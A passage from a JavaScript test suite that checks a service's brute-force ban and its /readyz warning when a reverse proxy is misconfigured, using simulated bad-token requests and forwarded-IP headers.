    assert.equal((await fetchJson(ATTACK, { headers })).body.code, 'TOKEN_REQUIRED')
    for (let i = 0; i < 6; i++) {
      const wrong = { headers: { ...headers, authorization: 'Bearer x' } }
      assert.equal((await fetchJson(`${OPERATOR}/overview`, wrong)).body.code, 'TOKEN_INVALID')
    }
    assert.equal((await fetchJson('/api/v1/version', { headers })).status, 200)
  }

  test('is not banned; log and /readyz say what to set', async (t) => {
    const service = await startTestService(t, { BAN_EXEMPT: '' })
    await service.untilHealthy()
    for (const headers of FORWARDED) await attack(service, headers)
    await until(async () => (await service.fetchJson('/readyz')).body.state === 'degraded')
    const { problems } = (await service.fetchJson('/readyz')).body
    assert.equal(problems[0].part, 'network')
    assert.match(problems[0].message, /^a proxy on this machine .* set TRUST_PROXY=loopback$/)
    assert.equal(service.printed.filter((text) => text.includes('TRUST_PROXY')).length, 1)
    assert.equal((await service.fetchJson(ATTACK)).body.code, 'BANNED', 'a local client that forwards nothing')
  })

  test('is found behind a trusted proxy, too', async (t) => {
    const service = await startTestService(t, { TRUST_PROXY: 'loopback' })
    await attack(service, { 'x-forwarded-for': '198.51.100.7, 10.1.2.3' })
    await until(async () => (await service.fetchJson('/readyz')).body.state === 'degraded')
    const { problems } = (await service.fetchJson('/readyz')).body
    assert.match(problems[0].message, /^a proxy in 10\.1\.2\.0\/24 .* set TRUST_PROXY=<address of the proxy>$/)
    const banned = { headers: { 'x-forwarded-for': '10.1.2.3' } }
    assert.equal((await service.fetchJson(ATTACK, banned)).body.code, 'BANNED', 'a private client')
  })

  test('is found before there is an attack', async (t) => {
    const service = await startTestService(t)
    await until(async () => {
      await service.fetchPath('/api/v1/version', { headers: { 'x-forwarded-for': '198.51.100.7' } })
      return (await service.fetchJson('/readyz')).body.state === 'degraded'
    })
  })
})
